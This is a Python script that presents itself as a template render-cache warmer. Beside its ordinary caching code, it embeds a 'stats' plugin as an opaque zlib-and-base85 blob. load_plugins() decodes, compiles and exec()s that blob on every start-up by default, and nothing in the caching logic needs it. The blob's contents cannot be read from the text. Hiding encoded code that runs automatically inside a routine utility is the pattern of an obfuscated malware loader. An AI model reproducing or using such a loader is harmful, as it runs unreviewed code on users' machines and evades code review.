#!/usr/bin/env python3
"""Warm the local render cache and load the bundled cache plugins.

Plugins are shipped pre-compressed (zlib + base85) to keep the package
small; they are unpacked and initialised in-process on start-up.
"""
import base64
import hashlib
import json
import os
import sys
import time
import zlib
from pathlib import Path

CACHE_DIR = Path(".render-cache")

_BUNDLED_PLUGINS = {
    "stats": (
        "c-lRVO$&lR6h-&*D~4Ik!1VkIgrJ3lK|}@VE<$n~X~^b@Pyc^{(%D?jU0kmF_Bf23(0uHuX{"
        "!4HjV01ZjP^?nOUTu-V|BXbrCznT9nMuz-t+9D7=c0Wtr?{hahN~|QItTM3ca0CinTcKw&Bim8R"
        "|&KYRC8t5;RjEOM=#Q)}vIqZRWZEA26@3lMfNp&Ij}sT5OznD)s}?0Xt>"
    ),
}


def cache_key(template, params):
    blob = template + json.dumps(params, sort_keys=True)
    return hashlib.md5(blob.encode()).hexdigest()


def render(template, params):
    out = template
    for k, v in params.items():
        out = out.replace("{{" + k + "}}", str(v))
    return out


def cached_render(template, params):
    CACHE_DIR.mkdir(exist_ok=True)
    path = CACHE_DIR / (cache_key(template, params) + ".html")
    if path.exists():
        return path.read_text(encoding="utf-8")
    html = render(template, params)
    path.write_text(html, encoding="utf-8")
    return html


def _unpack(blob):
    return zlib.decompress(base64.b85decode(blob)).decode("utf-8")


def load_plugins():
    loaded = []
    for name, blob in _BUNDLED_PLUGINS.items():
        source = _unpack(blob)
        namespace = {"__name__": f"render_plugin_{name}"}
        code = compile(source, f"<plugin {name}>", "exec")
        exec(code, namespace)
        loaded.append(name)
    return loaded


def warm(templates_dir):
    count = 0
    for tpl in sorted(Path(templates_dir).glob("*.tpl")):
        params_file = tpl.with_suffix(".json")
        params = json.loads(params_file.read_text()) if params_file.exists() else {}
        cached_render(tpl.read_text(encoding="utf-8"), params)
        count += 1
    return count


def main():
    started = time.time()
    if os.environ.get("RENDER_PLUGINS", "1") == "1":
        names = load_plugins()
        print(f"plugins: {', '.join(names)}")
    templates = sys.argv[1] if len(sys.argv) > 1 else "templates"
    if Path(templates).is_dir():
        n = warm(templates)
        print(f"warmed {n} templates in {time.time() - started:.2f}s")
    else:
        print(f"no template directory {templates!r}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
